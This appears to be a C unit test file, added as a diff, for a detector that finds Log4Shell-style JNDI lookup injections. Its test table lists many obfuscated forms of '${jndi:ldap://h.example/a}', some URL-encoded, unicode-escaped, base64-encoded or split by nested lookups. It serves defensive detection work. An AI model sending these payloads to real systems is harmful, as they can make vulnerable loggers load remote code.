@@ -1,0 +1,151 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+#include "detect/resolve.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdlib.h>
+#include <cmocka.h>
+
+static struct config *config;
+static struct scan *scan;
+static struct resolver *resolver;
+
+static int set_up(void **state)
+{
+    struct complaint why = {{0}};
+
+    (void)state;
+    config = config_new();
+    scan = scan_new(&why);
+    assert_non_null(config);
+    assert_non_null(scan);
+    resolver = resolver_new(config, scan);
+    assert_non_null(resolver);
+    return 0;
+}
+
+static int tear_down(void **state)
+{
+    (void)state;
+    resolver_free(resolver);
+    scan_free(scan);
+    config_free(config);
+    return 0;
+}
+
+struct found {
+    unsigned n, layers;
+    char names[512];
+};
+
+static void on_resolved(void *arg, const struct resolved *r)
+{
+    struct found *f = arg;
+    size_t used = strlen(f->names);
+
+    assert_true(used + r->hit->name.len + 2 < sizeof f->names);
+    if (used)
+        strcat(f->names, " ");
+    strncat(f->names, (const char *)r->hit->name.p, r->hit->name.len);
+    f->layers |= r->layers;
+    f->n++;
+    assert_true(r->hit->from <= r->hit->to && r->hit->to <= r->decoded.len);
+}
+
+#define NAME "ldap://h.example/a"
+
+static const struct {
+    enum field_coding coding;
+    const char *text, *names;
+} rows[] = {
+    {FIELD_PLAIN, "${jndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "%24%7Bjndi:ldap://h.example/a%7D", NAME},
+    {FIELD_PLAIN, "$%7Bjndi:ldap://h.example/a%7D", NAME},
+    {FIELD_PLAIN, "%252524%25257Bjndi%25253Aldap://h.example/a%25257D", NAME},
+    {FIELD_PLAIN, "\\u0024\\u007bjndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "%5Cu0024%5Cu007bjndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "\\44{jndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "&#36;&#123;jndi&#x3a;ldap://h.example/a&#125;", NAME},
+    {FIELD_PLAIN, "&dollar;&lbrace;jndi&colon;ldap://h.example/a&rbrace;", NAME},
+    {FIELD_PLAIN, "%c0%a4%7bjndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "\357\274\204\357\275\233jndi:ldap://h.example/a\357\275\235", NAME},
+    {FIELD_PLAIN, "Basic JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA==", NAME},
+    {FIELD_URI, "/a?q=%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D&r=1", NAME},
+    {FIELD_URI, "/$%7Bjndi:ldap://h.example/a%7D", NAME},
+    {FIELD_FORM, "user=x&pass=%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D", NAME},
+    {FIELD_FORM, "%24%7Bjndi%3Aldap%3A%2F%2Fh.example%2Fa%7D=x", NAME},
+    {FIELD_JSON, "{\"a\":\"\\u0024\\u007bjndi:ldap:\\/\\/h.example\\/a}\"}", NAME},
+    {FIELD_JSON, "{\"a\":\"$${jndi:ldap://h.example/a}\",\"b\":\"${x}\"}", NAME},
+    {FIELD_JSON, "{\"one-${jnd${a\":\"a:-i}:ld${\",\"two\":\"o:-a}p://h.example/a}\"}", NAME},
+    {FIELD_XML, "<a>&#36;{jndi:ldap://h.example/a}</a>", NAME},
+    {FIELD_PLAIN, "${ never closed\r\nX: ${jndi:ldap://h.example/a}", NAME},
+    {FIELD_PLAIN, "${jndi:ldap://h.example/a} and ${jndi:rmi://k/b}", NAME " rmi://k/b"},
+    {FIELD_PLAIN, "${jndi:ldap://h/%41}", "ldap://h/%41"},
+    {FIELD_URI, "/${jndi:ldap://h/%41}", "ldap://h/A"},
+    {FIELD_PLAIN, "`${location.protocol}//${location.host}/jndi`", ""},
+    {FIELD_PLAIN, "${spring.datasource.url:jdbc:mysql://db/x}", ""},
+    {FIELD_PLAIN, "$${jndi:ldap://h.example/a}", ""},
+    {FIELD_PLAIN, "${ jndi:ldap://h.example/a}", ""},
+    {FIELD_PLAIN, "${jndi:ldap://h.example/a", ""},
+};
+
+static void lookups_are_found_under_their_encodings(void **state)
+{
+    (void)state;
+    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
+        struct found f = {0};
+        bool spent, found = resolver_run(resolver, bytes_str(rows[i].text), rows[i].coding, on_resolved, &f, &spent);
+
+        assert_int_equal(found, f.n > 0);
+        /* A JSON body with an escaped lookup in one value and an expression in another is inert value by value, and
+         * live when it is logged whole: the whole is tried when no piece says anything. */
+        if (strcmp(f.names, rows[i].names) != 0)
+            fail_msg("%s: found \"%s\"", rows[i].text, f.names);
+    }
+}
+
+static void layers_are_told(void **state)
+{
+    struct found f = {0};
+    bool spent;
+
+    (void)state;
+    resolver_run(resolver, BYTES_LIT("%2524%257Bjndi:ldap://h/a}"), FIELD_PLAIN, on_resolved, &f, &spent);
+    assert_int_equal(f.layers, 1 << UNWRAP_URL);
+    f = (struct found){0};
+    resolver_run(resolver, BYTES_LIT("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX06eA=="), FIELD_PLAIN, on_resolved, &f, &spent);
+    assert_int_equal(f.layers, 1 << UNWRAP_BASE64);
+    f = (struct found){0};
+    resolver_run(resolver, BYTES_LIT("${jndi:ldap://h/a}"), FIELD_URI, on_resolved, &f, &spent);
+    assert_int_equal(f.layers, 0);
+}
+
+/* Long hostile texts of each coding end, and within a test's patience. */
+static void hostile_texts_end(void **state)
+{
+    static const char *const units[] = {"%25", "${a:", "\\\\u0024{", "&#36;{", "JHtq", "\"${a:-\"", "=${x:&", "%2524{"};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof units / sizeof *units; i++) {
+        struct buf text = buf_within(65536);
+        struct found f = {0};
+        bool spent;
+
+        while (buf_add_str(&text, units[i]))
+            ;
+        for (unsigned coding = FIELD_PLAIN; coding <= FIELD_XML; coding++)
+            resolver_run(resolver, buf_bytes(&text), (enum field_coding)coding, on_resolved, &f, &spent);
+        buf_drop(&text);
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(lookups_are_found_under_their_encodings),
+        cmocka_unit_test(layers_are_told),
+        cmocka_unit_test(hostile_texts_end),
+    };
+
+    return cmocka_run_group_tests(tests, set_up, tear_down);
+}
